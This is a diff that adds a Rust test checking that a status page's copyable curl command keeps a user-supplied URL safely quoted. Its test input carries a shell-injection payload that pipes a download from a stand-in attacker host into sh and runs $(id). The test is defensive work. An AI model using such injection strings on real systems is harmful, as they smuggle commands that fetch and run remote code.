@@ -213,3 +213,15 @@ async fn what_is_live_has_the_names_of_the_page_and_is_for_so_many_only() {
     fleet.ops.quiet.cancel();
     assert!(to_bytes(open.pop().unwrap(), 1 << 20).await.unwrap().is_empty());
 }
+
+#[tokio::test]
+async fn the_command_to_copy_holds_nothing_but_a_quoted_address() {
+    let fleet = Fleet::new().await;
+    let (_, page) = page(&fleet, "/status?url=http://e.example/';curl%20evil.example|sh;$(id);'").await;
+    let command = page.split("<code>").nth(1).unwrap().split("</code>").next().unwrap();
+    assert!(
+        command.starts_with("curl --data-urlencode 'url=http://e.example/%27;curl%20evil.example|sh;$(id);%27' '"),
+        "{command}"
+    );
+    assert_eq!(command.matches('\'').count() + command.matches("&#39;").count(), 4, "{command}");
+}
